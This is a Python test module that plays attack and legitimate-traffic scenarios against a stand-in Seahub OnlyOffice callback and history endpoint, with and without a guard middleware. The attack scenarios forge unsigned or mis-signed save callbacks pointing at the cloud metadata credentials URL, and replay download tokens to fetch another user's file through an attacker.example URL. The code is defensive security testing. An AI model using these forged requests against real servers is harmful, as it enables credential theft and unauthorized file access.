"""The scenarios: attacks on the stand-in Seahub and legitimate Document Server traffic.

Each scenario runs in every configuration (variant) it names, once without and once with
GuardMiddleware, each time on fresh stores: Alice has the document key ``KEY`` open on
``/report.docx``; the file server holds a version of it (A) and a file of Bob's (B).
A scenario returns an :class:`Outcome`: for an attack, ``effect`` says that it worked;
for Document Server traffic, that Seahub did with it what it does today.

:func:`variant_settings` gives each configuration's seahub_settings.py values;
:func:`play` (in a process whose Django settings are the stand-in's) plays the scenarios
of one configuration.
"""

from __future__ import annotations

import json
import logging
import re
import secrets
from dataclasses import asdict, dataclass
from typing import Callable
from urllib.parse import urlencode, urlsplit

from . import backend, ds

DS_URL = "https://ds.example/"
APIJS_URL = DS_URL + "web-apps/apps/api/documents/api.js"
STORAGE_URL = "https://storage.example/"  # the Document Server's storage.externalHost
SEAHUB_URL = "https://seahub.example"
METADATA_URL = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
ATTACKER_URL = "https://attacker.example/pixel.png"

KEY = "c4ca4238a0b923820dcc"
ALICE = "alice@example.com"
REPO_A, OBJ_A = "8f4fa3b0-0c9a-4d8e-9d3b-0d3c1c8e2a11", "a" * 40
REPO_B, OBJ_B = "1d5e9b7c-3f2a-4c6b-8e1d-7a9f0b2c4e33", "b" * 40
CONTENT_A = b"A: /report.docx, an earlier version (Alice's library)"
CONTENT_B = b"B: /salaries.xlsx (Bob's library)"
GUARD = "onlyoffice_jwt.seahub.GuardMiddleware"

VARIANTS = {
    "default": "",
    "site-root": "SITE_ROOT /seafile/",
    "external-host": "DS storage.externalHost",
    "multi-suite": "multiple office suites",
}


def variant_settings(variant: str, secret: str, stale_secret: str) -> dict:
    """The seahub_settings.py values of a configuration (without EXTRA_MIDDLEWARE)."""
    onlyoffice = {
        "ENABLE_ONLYOFFICE": True,
        "ONLYOFFICE_APIJS_URL": APIJS_URL,
        "ONLYOFFICE_JWT_SECRET": secret,
    }
    if variant == "site-root":
        return {**onlyoffice, "SITE_ROOT": "/seafile/"}
    if variant == "external-host":
        return {**onlyoffice, "ONLYOFFICE_JWT_GUARD_EXTRA_DS_URLS": [STORAGE_URL]}
    if variant == "multi-suite":
        # Seahub ignores the top-level ONLYOFFICE_* values in this mode.
        return {
            "ENABLE_MULTIPLE_OFFICE_SUITE": True,
            "ONLYOFFICE_APIJS_URL": "https://old-ds.example/web-apps/apps/api/documents/api.js",
            "ONLYOFFICE_JWT_SECRET": stale_secret,
            "OFFICE_SUITE_LIST": [
                {
                    "id": "onlyoffice",
                    "name": "OnlyOffice",
                    "is_default": True,
                    "ONLYOFFICE_APIJS_URL": APIJS_URL,
                    "ONLYOFFICE_JWT_SECRET": secret,
                    "ONLYOFFICE_JWT_HEADER": "AuthorizationJwt",
                },
                {"id": "collabora", "name": "CollaboraOnline", "is_default": False},
            ],
        }
    return onlyoffice


@dataclass(frozen=True)
class Outcome:
    """What happened: the scenario's effect, Seahub's failure answer, a line for the table."""

    effect: bool
    refused: bool
    text: str


@dataclass(frozen=True)
class Scenario:
    """A named scenario, an attack or not, and the configurations it runs in."""

    name: str
    attack: bool
    variants: tuple[str, ...]
    run: Callable[["Site"], Outcome]


SCENARIOS: list[Scenario] = []


def scenario(name: str, *, attack: bool, variants: tuple[str, ...] = ("default",)):
    """Registers the decorated function as a scenario."""

    def register(run: Callable[["Site"], Outcome]) -> Callable[["Site"], Outcome]:
        SCENARIOS.append(Scenario(name, attack, variants, run))
        return run

    return register


class _Refusals(logging.Handler):
    """Keeps the guard's log lines (logger "onlyoffice") and the codes they give."""

    def __init__(self) -> None:
        super().__init__(logging.WARNING)
        self.lines: list[str] = []
        self.codes: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        line = record.getMessage()
        self.lines.append(line)
        self.codes += re.findall(r"\((\w+)\):", line)

    def take(self) -> list[str]:
        """The codes logged since the last call."""
        codes, self.codes = self.codes, []
        return codes


class Site:
    """The stand-in Seahub as the Document Server and an attacker reach it."""

    def __init__(self) -> None:
        from django.test import Client
        from django.urls import reverse

        from . import onlyoffice_settings

        self.client = Client()
        self.secret = onlyoffice_settings.ONLYOFFICE_JWT_SECRET
        self.header = onlyoffice_settings.ONLYOFFICE_JWT_HEADER
        self.callback_path = reverse("onlyoffice_editor_callback")
        self.history_path = reverse("onlyoffice_api_file_history")
        self.refusals = _Refusals()
        log = logging.getLogger("onlyoffice")
        log.addHandler(self.refusals)
        log.propagate = False

    def post(self, body: dict, authorization: str | None = None):
        """POSTs a callback body, with ``authorization`` in the Document Server's header."""
        headers = {self.header: authorization} if authorization else {}
        return self.client.post(
            self.callback_path,
            data=json.dumps(body, separators=(",", ":")).encode(),
            content_type="application/json",
            headers=headers,
        )

    def deliver(self, callback: ds.Callback, plain: dict | None = None):
        """POSTs a signed callback as the Document Server does (``plain`` replaces its body)."""
        body = {**(callback.plain if plain is None else plain), "token": callback.token}
        return self.post(body, "Bearer " + callback.header_token)

    def history_target(self, username: str, repo_id: str, path: str, obj_id: str) -> str:
        """The path and query of a history URL, as Seahub builds it (urlencode)."""
        query = {"username": username, "repo_id": repo_id, "path": path, "obj_id": obj_id}
        return f"{self.history_path}?{urlencode(query)}"

    def get_history(self, target: str, authorization: str):
        """GETs a history target with an Authorization header."""
        return self.client.get(target, headers={"Authorization": authorization})

    def callback_outcome(self, response, effect: bool) -> Outcome:
        """The outcome of a callback: Seahub's answer, the guard's codes, what was saved."""
        text = response.content.decode()
        if response.status_code != 200:
            text = f"HTTP {response.status_code} {text}"
        codes = self.refusals.take()
        if codes:
            text += f" refused ({', '.join(codes)})"
        hosts = saved_from()
        text += "; saved from " + ", ".join(hosts) if hosts else "; nothing saved"
        refused = response.status_code == 200 and response.content == b'{"error": 1}'
        return Outcome(effect, refused, text)

    def history_outcome(self, response, effect: bool) -> Outcome:
        """The outcome of a history download: status, the file served or the error."""
        if response.status_code == 200:
            text = "HTTP 200, served " + response.content.decode().split(":")[0]
        else:
            text = f"HTTP {response.status_code} {response.content.decode()}"
        codes = self.refusals.take()
        if codes:
            text += f" ({', '.join(codes)})"
        refused = response.status_code == 403 and "error_msg" in json.loads(response.content)
        return Outcome(effect, refused, text)


def saved_from() -> list[str]:
    """The host each saved version was downloaded from (its content names its URL)."""
    return [
        urlsplit(content.decode().removeprefix("served by ")).hostname or "?"
        for versions in backend.VERSIONS.values()
        for content in versions
    ]


def _session_open() -> bool:
    """Alice's editing session is still open (its key row is there)."""
    return KEY in backend.DOC_KEYS


def _session_closed() -> bool:
    """The session ended as Seahub ends it: key row deleted, doc info cached for a day."""
    from django.core.cache import cache

    return KEY not in backend.DOC_KEYS and cache.get(KEY) is not None


def _answered(response, error: int) -> bool:
    """Seahub's callback answer ``{"error": <error>}`` with HTTP 200."""
    return response.status_code == 200 and response.content == b'{"error": %d}' % error


# Attacks -------------------------------------------------------------------------------


@scenario(
    "attack: forged unsigned save, url = cloud metadata",
    attack=True,
    variants=("default", "site-root", "external-host", "multi-suite"),
)
def forged_unsigned(site: Site) -> Outcome:
    """Anyone who knows a document key can post a save: Seahub downloads any url."""
    response = site.post({"key": KEY, "status": 2, "url": METADATA_URL})
    return site.callback_outcome(response, saved_from() == ["169.254.169.254"])


@scenario("attack: save signed with another secret, url = cloud metadata", attack=True)
def forged_other_secret(site: Site) -> Outcome:
    """Seahub never verifies the body token, so any token passes."""
    body = {**ds.body(KEY, 2, base=DS_URL), "url": METADATA_URL}
    response = site.deliver(ds.callback(body, secrets.token_urlsafe(32)))
    return site.callback_outcome(response, saved_from() == ["169.254.169.254"])


@scenario(
    "attack: DS-signed save, plain url swapped",
    attack=True,
    variants=("default", "multi-suite"),
)
def swapped_url(site: Site) -> Outcome:
    """A real DS callback replayed with another plain url: Seahub reads the plain body."""
    callback = ds.callback(ds.body(KEY, 2, base=DS_URL), site.secret)
    response = site.deliver(callback, plain={**callback.plain, "url": METADATA_URL})
    return site.callback_outcome(response, saved_from() == ["169.254.169.254"])


@scenario("attack: header token after 'Bearer:' (not 'Bearer '), body unsigned", attack=True)
def wrong_prefix(site: Site) -> Outcome:
    """A valid header token after a prefix that is not exactly the DS's ``Bearer ``."""
    callback = ds.callback(ds.body(KEY, 2, base=DS_URL), site.secret)
    response = site.post(callback.plain, "Bearer:" + callback.header_token)
    return site.callback_outcome(response, bool(saved_from()))


@scenario(
    "attack: history, A's token replayed with an empty query",
    attack=True,
    variants=("default", "site-root"),
)
def history_empty_query(site: Site) -> Outcome:
    """An empty query string is a substring of every signed URL."""
    signed = SEAHUB_URL + site.history_target(ALICE, REPO_A, "/report.docx", OBJ_A)
    response = site.get_history(site.history_path, ds.download_authorization(signed, site.secret))
    return site.history_outcome(response, response.status_code == 200)


@scenario(
    "attack: history, DS token for an attacker's URL carrying B's request",
    attack=True,
    variants=("default", "site-root", "multi-suite"),
)
def history_carried_request(site: Site) -> Outcome:
    """The signed URL is another one, whose query contains B's request: Seahub serves
    the file the signed query names, B."""
    # A token the DS signed for a URL an attacker chose (e.g. an image inserted by URL,
    # which the DS downloads with its token): its query holds B's whole request, so
    # both substring checks pass.
    target = site.history_target("bob@example.com", REPO_B, "/salaries.xlsx", OBJ_B)
    signed = f"{ATTACKER_URL}?next={target}"
    response = site.get_history(target, ds.download_authorization(signed, site.secret))
    return site.history_outcome(response, response.content == CONTENT_B)


# Document Server traffic ---------------------------------------------------------------


@scenario("DS: callback 1 (a user connects)", attack=False, variants=("default", "multi-suite"))
def status_1(site: Site) -> Outcome:
    """Acknowledged; nothing saved, the session stays open."""
    response = site.deliver(ds.callback(ds.body(KEY, 1), site.secret))
    effect = _answered(response, 0) and not saved_from() and _session_open()
    return site.callback_outcome(response, effect)


def _save(site: Site, status: int, *, base: str = DS_URL, **signing) -> Outcome:
    """A save (2) or force save (6): the version downloaded from ``base`` is stored; a
    save ends the session."""
    response = site.deliver(ds.callback(ds.body(KEY, status, base=base), site.secret, **signing))
    ended = _session_closed() if status == 2 else _session_open()
    effect = _answered(response, 0) and saved_from() == [urlsplit(base).hostname] and ended
    return site.callback_outcome(response, effect)


@scenario("DS: callback 2 (save)", attack=False, variants=("default", "site-root", "multi-suite"))
def status_2(site: Site) -> Outcome:
    """Saved from the DS; the session ends."""
    return _save(site, 2)


@scenario("DS: callback 6 (force save)", attack=False)
def status_6(site: Site) -> Outcome:
    """Saved from the DS; the session stays open."""
    return _save(site, 6)


@scenario("DS: callback 2, url on storage.externalHost", attack=False, variants=("external-host",))
def status_2_external_host(site: Site) -> Outcome:
    """The DS's URLs on its storage.externalHost (ONLYOFFICE_JWT_GUARD_EXTRA_DS_URLS)."""
    return _save(site, 2, base=STORAGE_URL)


@scenario("DS: callback 6, url on storage.externalHost", attack=False, variants=("external-host",))
def status_6_external_host(site: Site) -> Outcome:
    """As above, for a force save."""
    return _save(site, 6, base=STORAGE_URL)


@scenario("DS: callback 6 from a clock 120 s ahead (iat in the future)", attack=False)
def clock_ahead(site: Site) -> Outcome:
    """iat 120 s in the future, beyond the 60 s leeway: the DS never checks iat."""
    return _save(site, 6, ahead=120)


@scenario("DS: callback 4 (closed without changes)", attack=False)
def status_4(site: Site) -> Outcome:
    """Nothing saved; the session ends."""
    response = site.deliver(ds.callback(ds.body(KEY, 4), site.secret))
    effect = _answered(response, 0) and not saved_from() and _session_closed()
    return site.callback_outcome(response, effect)


def _error_status(site: Site, status: int) -> Outcome:
    """Statuses 3 and 7: Seahub answers {"error": 1} and keeps the session."""
    response = site.deliver(ds.callback(ds.body(KEY, status, base=DS_URL), site.secret))
    effect = _answered(response, 1) and not saved_from() and _session_open()
    return site.callback_outcome(response, effect)


@scenario("DS: callback 3 (save error), answered as Seahub does", attack=False)
def status_3(site: Site) -> Outcome:
    """Seahub does not handle it: {"error": 1}."""
    return _error_status(site, 3)


@scenario("DS: callback 7 (force-save error), answered as Seahub does", attack=False)
def status_7(site: Site) -> Outcome:
    """Seahub does not handle it: {"error": 1}."""
    return _error_status(site, 7)


def _big_save(site: Site, history: int, min_body: int) -> Outcome:
    """A save with ``history`` changes: the header token is trimmed, the body token not."""
    callback = ds.callback(ds.body(KEY, 2, base=DS_URL, history=history), site.secret)
    body = json.dumps({**callback.plain, "token": callback.token})
    if not callback.trimmed or "changesurl" in callback.plain or len(body) <= min_body:
        raise AssertionError("the scenario does not build the callback it describes")
    response = site.deliver(callback)
    effect = _answered(response, 0) and saved_from() == ["ds.example"] and _session_closed()
    outcome = site.callback_outcome(response, effect)
    return Outcome(outcome.effect, outcome.refused, f"{outcome.text} ({len(body)} bytes)")


@scenario("DS: callback 2, header token trimmed (history {}, no changesurl)", attack=False)
def trimmed_header(site: Site) -> Outcome:
    """The header token would pass 7168 characters: header and plain body trimmed."""
    return _big_save(site, 100, 0)


@scenario("DS: callback 2 with a body over 1 MiB", attack=False)
def body_over_1_mib(site: Site) -> Outcome:
    """16000 history changes: a body of about 1.5 MB."""
    return _big_save(site, 16000, 1 << 20)


@scenario(
    "DS: history download of A", attack=False, variants=("default", "site-root", "multi-suite")
)
def history_download(site: Site) -> Outcome:
    """The DS downloads the history URL Seahub signed, with its own token for it."""
    target = site.history_target(ALICE, REPO_A, "/report.docx", OBJ_A)
    authorization = ds.download_authorization(SEAHUB_URL + target, site.secret)
    response = site.get_history(target, authorization)
    return site.history_outcome(response, response.content == CONTENT_A)


def play(variant: str) -> dict:
    """Plays the scenarios of ``variant``: {"results": [{name, effect, refused, text}],
    "log": the guard's log lines}."""
    site = Site()
    results = []
    for item in SCENARIOS:
        if variant not in item.variants:
            continue
        backend.reset()
        backend.DOC_KEYS[KEY] = {"username": ALICE, "repo_id": REPO_A, "file_path": "/report.docx"}
        backend.OBJECTS[(REPO_A, OBJ_A)] = CONTENT_A
        backend.OBJECTS[(REPO_B, OBJ_B)] = CONTENT_B
        results.append({"name": item.name, **asdict(item.run(site))})
    return {"results": results, "log": site.refusals.lines}
